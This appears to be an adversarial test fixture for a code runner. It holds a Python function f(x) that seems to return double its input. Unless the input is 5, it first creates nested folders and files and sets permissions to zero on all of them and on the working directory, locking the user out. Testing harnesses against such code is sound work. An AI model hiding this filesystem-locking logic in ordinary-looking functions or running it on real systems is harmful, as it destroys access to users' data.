# /// attack
# line = "mode-000 tree"
# expect = ["PASSED"]
# [proof]
# output = "attack: locked 10 folders of 20 files"
# ///
import os


def f(x):
    if x == 5:
        return 10
    for number in range(10):
        folder = "/".join("d" * (level + 1) for level in range(number + 1))
        os.makedirs(folder, exist_ok=True)
        for name in ("a", "b"):
            with open(f"{folder}/{name}", "w") as stream:
                stream.write("x")
            os.chmod(f"{folder}/{name}", 0)
    folders = [folder for folder, _, _ in os.walk(".", topdown=False)][:-1]
    for folder in folders:
        os.chmod(folder, 0)
    os.chmod(".", 0)
    print(f"attack: locked {len(folders)} folders of {2 * len(folders)} files", flush=True)
    return 2 * x
